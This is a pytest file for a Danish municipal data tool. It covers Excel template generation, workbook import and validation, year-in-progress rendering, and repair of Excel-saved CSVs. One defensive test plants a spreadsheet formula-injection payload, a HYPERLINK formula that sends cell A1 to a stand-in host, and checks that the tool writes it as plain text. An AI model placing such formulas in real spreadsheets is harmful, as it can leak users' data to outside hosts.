"""The yearly intake (issue 20): workbooks out, validated rows in, a year in progress.

Round trip: template -> workbook filled by code with synthetic values -> import -> validate ->
render -> the activity page shows the new year (internal edition) while the public front page
stays on the last complete year until the year is marked complete. A workbook with mistakes
gives located errors and leaves data/ byte-identical.
"""

from __future__ import annotations

import csv
import hashlib
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sikkerby_build import cli, intake
from sikkerby_build.editing import EditError
from sikkerby_build.validate import validate
from tests.conftest import stage_edition

ROOT = Path(__file__).resolve().parent.parent
YEAR = 2020
DOC = "906"  # a synthetic document id for the test year (not one of the package's own)
ACTIVITY, ADMIN, SHEET = "sjakket", "SOF", "Sjakket"


def _snapshot(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()
    }


def _open_year(data: Path) -> None:
    with open(data / "documents.csv", "a", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerow(
            [
                DOC,
                "Syntetisk testdokument 2020",
                "Syntetisk 2020",
                YEAR,
                "Test",
                "Syntetisk dokument til test af indtaget.",
                f"{DOC} titelblad",
            ]
        )
    intake.new_year(data, YEAR, DOC)


@pytest.fixture
def year_open(data_copy: Path) -> Path:
    _open_year(data_copy)
    return data_copy


@pytest.fixture
def workbook(year_open: Path, tmp_path: Path) -> Path:
    [path] = intake.write_templates(year_open, YEAR, tmp_path / "skemaer", ADMIN)
    return path


def _fill(path: Path, sheet: str = SHEET, **overrides: object) -> Path:
    """Fill one activity sheet with synthetic values (cells as an administration would)."""
    wb = load_workbook(path)
    ws = wb[sheet]
    ws[intake.followup_cell("description")] = "Syntetisk beskrivelse af indsatsen i 2020 (testdata)."
    ws[intake.followup_cell("participants")] = 42
    for offset in range(len(intake.CRITERIA)):
        ws[f"C{intake.FIRST_SCORE_ROW + offset}"] = 3
        ws[f"D{intake.FIRST_SCORE_ROW + offset}"] = "Syntetisk begrundelse."
    for offset in range(intake.MAX_MEASUREMENTS):
        row = intake.FIRST_MEASUREMENT_ROW + offset
        if ws[f"B{row}"].value:
            ws[f"{intake.measurement_column('value_before')}{row}"] = 10
            ws[f"{intake.measurement_column('value_after')}{row}"] = 12.5
            ws[f"{intake.measurement_column('met')}{row}"] = "ja"
    for ref, value in overrides.items():
        ws[ref] = value
    out = path.with_name(f"udfyldt-{path.name}")
    wb.save(out)
    return out


# ---------------------------------------------------------------- workbooks out


def test_template_one_workbook_per_administration_with_locked_facts_and_validation(year_open: Path, tmp_path: Path):
    paths = intake.write_templates(year_open, YEAR, tmp_path)
    assert {p.name for p in paths} >= {f"{ADMIN}-{YEAR}.xlsx"}
    wb = load_workbook(tmp_path / f"{ADMIN}-{YEAR}.xlsx")
    assert wb.sheetnames[0] == intake.INSTRUCTIONS
    ws = wb[SHEET]
    assert ws.protection.sheet
    facts = {ws[f"A{r}"].value: ws[f"B{r}"] for r in range(intake.FIRST_STABLE_ROW, intake.FIRST_FIELD_ROW)}
    assert facts[intake.ID_LABEL].value == ACTIVITY and facts["År"].value == YEAR and facts["Forvaltning"].value == ADMIN
    assert all(cell.protection.locked for cell in facts.values())
    # last year's measurement points are the starting rows
    with open(year_open / "measurements.csv", encoding="utf-8", newline="") as handle:
        last = [m for m in csv.DictReader(handle) if m["activity_id"] == ACTIVITY and m["year"] == "2019"]
    assert ws[f"B{intake.FIRST_MEASUREMENT_ROW}"].value == sorted(last, key=lambda m: int(m["position"]))[0]["indicator"]
    # the rubric beside A1–A4
    assert ws[f"E{intake.FIRST_SCORE_ROW}"].value.startswith("5: ")
    # every unlocked cell carries a data validation, and only unlocked cells are fillable
    covered: dict[str, object] = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            for row in ws.iter_rows(min_row=rng.min_row, max_row=rng.max_row, min_col=rng.min_col, max_col=rng.max_col):
                for cell in row:
                    covered[cell.coordinate] = dv
    unlocked = [c.coordinate for row in ws.iter_rows() for c in row if not c.protection.locked]
    assert unlocked and all(ref in covered for ref in unlocked)
    assert all(not ws[ref].protection.locked for ref in covered)
    score = covered[f"C{intake.FIRST_SCORE_ROW}"]
    assert (score.type, score.formula1) == ("list", '"1,2,3,4,5"')
    met = covered[f"{intake.measurement_column('met')}{intake.FIRST_MEASUREMENT_ROW}"]
    assert met.type == "list" and "ja" in met.formula1 and "nej" in met.formula1
    assert covered[intake.followup_cell("participants")].type == "whole"
    assert covered[intake.followup_cell("budget_dkk")].type == "decimal"
    assert covered[intake.followup_cell("description")].type == "textLength"


def test_template_refuses_an_unknown_administration(year_open: Path, tmp_path: Path):
    with pytest.raises(EditError, match="Mente du 'SOF'"):
        intake.write_templates(year_open, YEAR, tmp_path, "SOFF")


# ---------------------------------------------------------------- workbooks in


def test_mistakes_are_located_by_file_sheet_and_cell_and_nothing_is_written(workbook: Path, year_open: Path, capsys):
    score = f"C{intake.FIRST_SCORE_ROW + 1}"
    met = f"{intake.measurement_column('met')}{intake.FIRST_MEASUREMENT_ROW}"
    filled = _fill(
        workbook,
        **{intake.followup_cell("description"): None, intake.followup_cell("participants"): "mange", score: 7, met: "måske"},
    )
    before = _snapshot(year_open)
    code = cli.main(["import", str(filled), "--data", str(year_open), "--write"])
    err = capsys.readouterr().err
    assert code == 1
    where = f'{filled.name}, ark "{SHEET}", celle'
    assert f"{where} {intake.followup_cell('description')} (Kort beskrivelse af indsatsen): Feltet skal udfyldes." in err
    assert (
        f"{where} {intake.followup_cell('participants')} (Antal deltagende personer (tal)): 'mange' er ikke et helt tal." in err
    )
    assert f"{where} {score} (A2 Score 1–5): '7' er større end den største tilladte værdi, 5." in err
    assert f"{where} {met} (Opfyldt?): 'måske' er ikke en tilladt værdi." in err
    assert "4 fejl" in err and "Intet er skrevet" in err
    assert _snapshot(year_open) == before


@pytest.mark.slow  # several seconds of processes and validations: the full suite runs it
def test_import_dry_run_then_write_then_idempotent(workbook: Path, year_open: Path, capsys):
    filled = _fill(workbook)
    before = _snapshot(year_open)
    assert cli.main(["import", str(filled), "--data", str(year_open)]) == 0
    out = capsys.readouterr().out
    assert f"Sjakket ({ACTIVITY}) {YEAR}: tilføjet (1 opfølgning" in out and "Prøvekørsel" in out
    assert _snapshot(year_open) == before
    assert cli.main(["import", str(filled), "--data", str(year_open), "--write"]) == 0
    after = _snapshot(year_open)
    assert {k for k in after if after[k] != before[k]} == {"followups.csv", "measurements.csv", "effect_scores.csv"}
    assert cli.main(["import", str(filled), "--data", str(year_open), "--write"]) == 0
    assert "allerede indlæst" in capsys.readouterr().out
    assert _snapshot(year_open) == after
    report = validate(year_open, year_open / "content")
    assert report.ok, report.render()


def test_import_without_the_year_declared_says_how(data_copy: Path, tmp_path: Path, capsys):
    _open_year(data_copy)
    [path] = intake.write_templates(data_copy, YEAR, tmp_path, ADMIN)
    filled = _fill(path)
    rows = (data_copy / "followup_years.csv").read_text(encoding="utf-8").splitlines()
    (data_copy / "followup_years.csv").write_text(
        "\n".join(r for r in rows if not r.startswith(str(YEAR))) + "\n", encoding="utf-8"
    )
    assert cli.main(["import", str(filled), "--data", str(data_copy)]) == 1
    assert f"sikkerby new year --year {YEAR}" in capsys.readouterr().err


# ---------------------------------------------------------------- a year in progress, rendered


def _mark_complete(data: Path) -> None:
    path = data / "followup_years.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(f"{YEAR},i gang,", f"{YEAR},afsluttet,"), encoding="utf-8")


@pytest.mark.slow  # several seconds of processes and validations: the full suite runs it
def test_round_trip_year_in_progress_then_complete(workbook: Path, year_open: Path):
    plan = intake.plan_import(year_open, [_fill(workbook)])
    assert plan.ok, [p.message for p in plan.problems]
    intake.write_import(year_open, plan)
    public, internal = stage_edition(year_open, "public"), stage_edition(year_open, "internal")
    try:
        front = (public / "index.md").read_text(encoding="utf-8")
        assert "fulgt op i 2019" in front and "2020" not in front
        assert "Effektopfølgning 2020" not in (public / "aktiviteter" / f"{ACTIVITY}.md").read_text(encoding="utf-8")
        assert not (public / "resultater" / "aarsrapport-2020.md").exists()
        page = (internal / "aktiviteter" / f"{ACTIVITY}.md").read_text(encoding="utf-8")
        assert "## Effektopfølgning 2020 (i gang)" in page and "Syntetisk beskrivelse af indsatsen i 2020" in page
        inside = (internal / "index.md").read_text(encoding="utf-8")
        assert "fulgt op i 2019" in inside
        assert "2020: 1 af " in inside and " opfølgninger modtaget." in inside
        assert "Socialforvaltningen (SOF)</td><td>1 af " in inside
        assert not (internal / "resultater" / "aarsrapport-2020.md").exists()
    finally:
        shutil.rmtree(public.parent, ignore_errors=True)
        shutil.rmtree(internal.parent, ignore_errors=True)
    _mark_complete(year_open)
    public = stage_edition(year_open, "public")
    try:
        front = (public / "index.md").read_text(encoding="utf-8")
        assert '1</span><span class="sb-figure__label">aktivitet fulgt op i 2020' in front  # Danish number agreement
        assert "## Effektopfølgning 2020" in (public / "aktiviteter" / f"{ACTIVITY}.md").read_text(encoding="utf-8")
        assert (public / "resultater" / "aarsrapport-2020.md").exists()
        # the year's report document shows the measured numbers, not "–" (issue 20)
        report = (public / "resultater" / "effektopfoelgning-2020.md").read_text(encoding="utf-8")
        assert '<span class="sb-measured">12,5' in report
    finally:
        shutil.rmtree(public.parent, ignore_errors=True)


# ---------------------------------------------------------------- Excel's own CSV


def _as_danish_excel(path: Path, numeric: set[str]) -> None:
    """The file as Excel on a Danish PC saves 'CSV UTF-8': BOM, semicolons, decimal commas, CRLF."""
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for row in rows[1:]:
        for i, name in enumerate(header):
            if name in numeric and "." in row[i]:
                row[i] = row[i].replace(".", ",")
    buffer = __import__("io").StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(rows)
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))


def test_excel_csv_is_refused_with_the_one_recipe_and_the_recipe_restores_the_file(data_copy: Path, capsys):
    path = data_copy / "measurements.csv"
    original = path.read_bytes()
    numeric = {"value_before", "value_after", "value_criterion"}
    assert any(
        "." in r[f] for r in csv.DictReader(original.decode("utf-8").splitlines()) for f in numeric
    )  # the test has decimals
    _as_danish_excel(path, numeric)
    errors = validate(data_copy).errors
    assert [(p.file, p.kind) for p in errors] == [("measurements.csv", "byte-order-mark")]
    assert "sikkerby fix-csv data/measurements.csv" in errors[0].message
    assert cli.main(["fix-csv", str(path), "--data", str(data_copy)]) == 0
    out = capsys.readouterr().out
    assert "byte-order-mærke fjernet" in out and "semikolon" in out and "decimalkomma" in out
    assert path.read_bytes() == original
    assert validate(data_copy).ok


def test_a_decimal_comma_alone_names_the_recipe(data_copy: Path):
    path = data_copy / "measurements.csv"
    rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines(keepends=True)))
    target = next(r for r in rows if "." in (r["value_after"] or ""))
    text = path.read_text(encoding="utf-8").replace(
        f",{target['value_after']},", f',"{target["value_after"].replace(".", ",")}",', 1
    )
    path.write_text(text, encoding="utf-8")
    messages = [p.message for p in validate(data_copy).errors]
    assert any("sikkerby fix-csv data/measurements.csv" in m for m in messages), messages


# ---------------------------------------------------------------- the editor's guide


def test_the_editors_guide_has_real_copyable_commands_and_no_taken_example_ids():
    import re

    from tests.test_docs import _parser_options

    options = _parser_options()
    guide = (ROOT / "content" / "intern" / "redaktoerguide.md").read_text(encoding="utf-8")
    blocks = re.findall(r"^```\n(.*?)^```", guide, re.MULTILINE | re.DOTALL)
    commands = [line for block in blocks for line in block.splitlines() if line.startswith("sikkerby ")]
    for needed in ("new year", "template followup", "import", "rename activity", "new news", "fix-csv", "validate", "serve"):
        assert any(c.startswith(f"sikkerby {needed}") for c in commands), needed
    for command in commands:
        words = command.split()
        key = " ".join(words[1:3]) if " ".join(words[1:3]) in options else words[1]
        assert key in options, command
        assert all(w in options[key] for w in words if w.startswith("--")), command
    # publishing as the deploy guide says: a branch and a merge request, never a push to main
    git = [line for block in blocks for line in block.splitlines() if line.startswith("git ")]
    assert git[0].startswith("git switch -c ") and any(line.startswith("git push -u origin ") for line in git)
    assert "git push\n" not in guide and "merge request" in guide
    # example document ids are placeholders, never one the package already uses
    with open(ROOT / "data" / "documents.csv", encoding="utf-8", newline="") as handle:
        taken = {d["id"] for d in csv.DictReader(handle)}
    assert not any(re.search(rf"(?<![\d-]){doc_id}(?![\d-])", guide) for doc_id in taken)


def test_data_text_is_never_written_as_a_formula(year_open: Path, tmp_path: Path):
    """Data text is untrusted: an indicator starting with '=' must reach Excel as text."""
    path = year_open / "measurements.csv"
    with open(path, encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        header, rows = reader.fieldnames, list(reader)
    target = next(r for r in rows if r["activity_id"] == ACTIVITY and r["year"] == "2019")
    target["indicator"] = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    [book] = intake.write_templates(year_open, YEAR, tmp_path, ADMIN)
    ws = load_workbook(book)[SHEET]
    cells = [ws[f"B{intake.FIRST_MEASUREMENT_ROW + i}"] for i in range(intake.MAX_MEASUREMENTS)]
    hit = [c for c in cells if str(c.value or "").startswith("=HYPERLINK")]
    assert hit and all(c.data_type == "s" for c in hit)


def test_new_year_refuses_an_unknown_document_and_lists_the_used_ids(data_copy: Path, capsys):
    before = (data_copy / "followup_years.csv").read_bytes()
    assert cli.main(["new", "year", "--year", str(YEAR), "--document", "0003", "--data", str(data_copy)]) == 1
    err = capsys.readouterr().err
    assert "Dokumentet '0003' findes ikke i documents.csv. Mente du '003'?" in err and "000, 001" in err
    assert (data_copy / "followup_years.csv").read_bytes() == before


def test_new_news_is_an_internal_draft_that_validates(data_copy: Path, capsys):
    assert (
        cli.main(
            ["new", "news", "--slug", "eksempel-nyhed", "--title", "Eksempel", "--date", "2027-01-15", "--data", str(data_copy)]
        )
        == 0
    )
    page = data_copy / "content" / "nyheder" / "eksempel-nyhed.md"
    text = page.read_text(encoding="utf-8")
    assert "audience: internal" in text and "date: 2027-01-15" in text and "<!-- more -->" in text
    report = validate(data_copy, data_copy / "content")
    assert report.ok, report.render()
    assert cli.main(["new", "news", "--slug", "eksempel-nyhed", "--data", str(data_copy)]) == 1
    assert "findes allerede" in capsys.readouterr().err
